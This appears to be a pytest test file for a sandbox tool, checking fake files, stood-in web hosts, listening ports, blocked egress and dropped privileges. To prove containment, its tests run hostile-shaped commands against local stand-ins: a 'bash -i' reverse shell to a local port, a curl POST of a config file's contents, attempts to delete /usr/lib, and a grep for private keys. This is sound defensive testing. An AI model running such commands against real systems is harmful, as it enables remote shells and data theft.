"""A world: what a sandbox can have beyond the plain one, and what it still cannot do."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from foreword.core.errors import SandboxError, SandboxLacks
from foreword.core.types import Port, Setup, World
from foreword.sandbox import Limits, Sandbox, open_sandbox, worlds

pytestmark = pytest.mark.sandbox
LIMITS = Limits(wall_s=120, disk_mb=8)
MASTER = "/usr/share/base-passwd/group.master"
PAGE, PLAIN = "https://pages.example/a/b.html", "http://files.example/x.py"


def opened(world: World) -> Sandbox:
    return open_sandbox(Setup(world=world), LIMITS)


@pytest.fixture(scope="module")
def box() -> Iterator[Sandbox]:
    """One of everything."""
    world = World(
        folders=("/usr", "/data"),
        files={
            "/root/.bashrc": "alias ll='ls -l'\n",
            "/etc/deep/er.conf": "deep\n",
            MASTER: "toy:x:0:\n",
            "/proc/cpuinfo": "processor: toy\n",
            "/proc/bus/toy": "bus\n",
            "/proc/no-such-file": "never\n",
            "/sys/kernel/toy": "0\n",
        },
        pages={PAGE: "<p>a page</p>\n", PLAIN: "print('file')\n"},
        ports=(
            Port(5758, "http"),
            Port(5389, "tcp", ("echo $((6*7))", "exit"), awaits="42"),
            Port(5390, "tcp"),
            Port(5388, "udp"),
        ),
    )
    with opened(world) as sandbox:
        yield sandbox


def python(code: str) -> str:
    return f"python3 - <<'PY'\n{code}\nPY"


def test_files_lie_where_they_should(box: Sandbox):
    done = box.run(
        f"cat /root/.bashrc /etc/deep/er.conf {MASTER} /proc/cpuinfo /proc/bus/toy /sys/kernel/toy"
    )
    assert done.output == "alias ll='ls -l'\ndeep\ntoy:x:0:\nprocessor: toy\nbus\n0\n"
    files = box.snapshot().files
    assert files["/root/.bashrc"].text == "alias ll='ls -l'\n"
    assert files[MASTER].text == "toy:x:0:\n" and "/data" in files
    assert "/usr/bin/env" not in files and "/proc/no-such-file" not in files


def test_usr_is_writable_on_top_and_read_only_below(box: Sandbox):
    before = set(Path("/usr").iterdir())
    done = box.run(
        "echo x > /usr/copy_file && cat /usr/copy_file; ls /usr/bin/env /usr/share/doc >/dev/null;"
        "for d in /usr/bin /usr/lib /usr/local /usr/share/doc /proc/sys; do"
        " touch $d/x 2>/dev/null && echo wrote $d; done;"
        "rm -f /usr/bin/env 2>/dev/null; rm -rf /usr/lib 2>/dev/null; mv /usr/bin /usr/bon;"
        "echo y > /proc/cpuinfo; true"
    )
    assert done.output.startswith("x\n") and "wrote" not in done.output
    assert box.run("/usr/bin/env true; cat /proc/cpuinfo").output == "processor: toy\n"
    assert box.snapshot().files["/usr/copy_file"].text == "x\n"
    assert set(Path("/usr").iterdir()) == before and Path("/usr/bin/env").exists()


def test_what_a_file_replaces_can_be_deleted_and_the_host_keeps_its_own():
    own = Path(MASTER).read_bytes() if Path(MASTER).exists() else None
    with opened(World(files={MASTER: "toy\n"})) as box:
        assert MASTER in box.snapshot().files
        assert box.run(f"rm {MASTER} && ls -d /usr/share/base-passwd").exit_code == 0
        assert MASTER not in box.snapshot().files
    assert (Path(MASTER).read_bytes() if Path(MASTER).exists() else None) == own


def test_its_folders_are_small(box: Sandbox):
    done = box.run(
        "for d in /usr /data /root /sys; do head -c 9M /dev/zero > $d/fill 2>/dev/null;"
        " stat -c %s $d/fill; rm $d/fill; done"
    )
    sizes = [int(line) for line in done.output.split()]
    assert len(sizes) == 4 and all(0 < size <= 2 * 1024 * 1024 for size in sizes)


def test_outside_hosts_are_stood_in_for(box: Sandbox):
    done = box.run(
        f"curl -sS {PAGE}; curl -sS {PLAIN}; curl -s -o /dev/null -w '%{{http_code}}\\n' "
        "http://files.example/other;"
        + python(
            "import socket, urllib.request\n"
            f"print(urllib.request.urlopen('{PAGE}').read())\n"
            f"print(urllib.request.urlopen('{PLAIN}').headers['Content-Type'])\n"
            "print(socket.gethostbyname('pages.example'))"
        )
    )
    assert done.output == (
        "<p>a page</p>\nprint('file')\n404\nb'<p>a page</p>\\n'\ntext/plain\n127.0.0.1\n"
    )
    hits = [(hit.method, hit.path, hit.host) for hit in box.snapshot().hits]
    assert hits.count(("GET", "/a/b.html", "pages.example")) == 2
    assert ("GET", "/other", "files.example") in hits


def test_a_stranger_is_not_trusted_and_not_let_out(box: Sandbox):
    done = box.run(
        "curl -sS https://other.example/ 2>&1; echo $?;"
        "env -u http_proxy -u https_proxy curl -s -m 2 http://1.1.1.1/; echo $?;"
        "printf 'CONNECT pages.example:443 HTTP/1.1\\r\\n\\r\\nnot tls at all' | timeout 1 bash -c"
        " 'exec 3<>/dev/tcp/127.0.0.1/8080; cat >&3; cat <&3' | head -n 1"
    )
    assert "certificate" in done.output
    codes = [line for line in done.output.splitlines() if line.isdigit()]
    assert len(codes) == 2 and "0" not in codes
    assert box.run(f"curl -sS {PAGE}").output == "<p>a page</p>\n"


HANG_UP = r"""
import socket
peer = socket.create_connection(("127.0.0.1", 8080))
peer.sendall(b"CONNECT pages.example:443 HTTP/1.1\r\n\r\n")
print(peer.recv(99))
sent = 0
try:
    for _ in range(2000):
        sent += peer.send(b"x" * 65536)
except OSError:
    print("hung up", sent < 2**23)
"""


def test_whoever_speaks_no_tls_is_hung_up_on(box: Sandbox):
    assert "hung up True" in box.run(f"python3 - <<'E'\n{HANG_UP}E").output


def test_ports_hear_and_one_of_them_speaks(box: Sandbox):
    done = box.run(
        "curl -s --data-binary @/etc/deep/er.conf http://127.0.0.1:5758/submit;"
        "echo raw > /dev/tcp/127.0.0.1/5390; echo gram > /dev/udp/127.0.0.1/5388;"
        "bash -i >& /dev/tcp/127.0.0.1/5389 0>&1; echo over"
    )
    assert done.output == "canary\nover\n"
    hits = box.snapshot().hits
    assert ("POST", "/submit", "deep\n") in [(hit.method, hit.path, hit.body) for hit in hits]
    heard = {hit.path: hit for hit in hits if hit.path.startswith(":")}
    assert heard[":5390"].body == "raw\n" and heard[":5388"].body == "gram\n"
    assert heard[":5388"].method == "UDP" and "42" in heard[":5389"].body


def test_a_listener_waits_for_its_answer_and_then_says_no_more(box: Sandbox):
    done = box.run(
        python(
            "import socket, time\ns = socket.create_connection(('127.0.0.1', 5389))\n"
            "s.sendall(b'hello'); time.sleep(0.1); print(s.recv(100))\n"
            "s.sendall(b'4'); s.sendall(b'2'); print(s.recv(100), s.recv(100))\n"
            "s.sendall(b'more')"
        )
    )
    assert done.output == "b'echo $((6*7))\\n'\nb'exit\\n' b''\n"
    assert "hello42more" in [hit.body for hit in box.snapshot().hits]


def test_an_action_has_no_capability_and_no_key(box: Sandbox):
    done = box.run("grep -c 'Cap.*:.0*$' /proc/self/status; grep -rl 'PRIVATE KEY' /tmp /etc")
    assert done.output == "5\n"


def test_the_plain_sandbox_has_none_of_it():
    with open_sandbox(Setup(), LIMITS) as box:
        done = box.run(
            "env | grep -i proxy; ls -d /root /sys; touch /usr/x; python3 -c 'import ssl'"
        )
        assert "proxy" not in done.output
        assert done.output.count("No such file") == 2 and "Read-only" in done.output


def test_packages_and_only_those():
    with opened(World(packages=("PyYAML",))) as box:
        done = box.run("python3 -c 'import yaml; print(yaml.safe_load(\"[1]\"))'; ls $PYTHONPATH")
        assert done.output.startswith("[1]\n") and "pydantic" not in done.output
        assert "Read-only" in box.run("touch $PYTHONPATH/yaml/x").output


def test_requirements_come_along():
    names = {path.name for path in worlds.parts_of("pydantic")}
    assert {"pydantic", "pydantic_core", "annotated_types"} <= names and "pytest" not in names


def test_what_is_not_installed_is_named():
    with pytest.raises(SandboxLacks, match="pip install no-such-package"):
        opened(World(packages=("no-such-package",)))


def test_without_trustme_no_page_is_secure(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(sys.modules, "trustme", None)
    with pytest.raises(SandboxLacks, match="trustme"):
        opened(World(pages={"https://only.here.example/": "x"}))


@pytest.mark.parametrize(
    "path",
    [
        "/bin/x",
        "/lib/x",
        "/dev/x",
        "/foreword/x",
        "/x",
        "/usr/lib/x",
        "relative/x",
        "/etc/../bin/x",
        "/",
    ],
)
def test_where_nothing_can_be_put(path: str):
    with pytest.raises(SandboxError, match="can have nothing in"):
        worlds.folders(World(files={path: ""}))


def test_only_what_the_plain_sandbox_lacks_is_made():
    world = World(folders=("/usr/share", "/srv/a"), files={"/app/a/b": "", "/home/agent/x": ""})
    assert worlds.folders(world) == ["/app", "/usr", "/usr/share"]
    assert worlds.folders(World()) == [] and worlds.written(World()) == {}
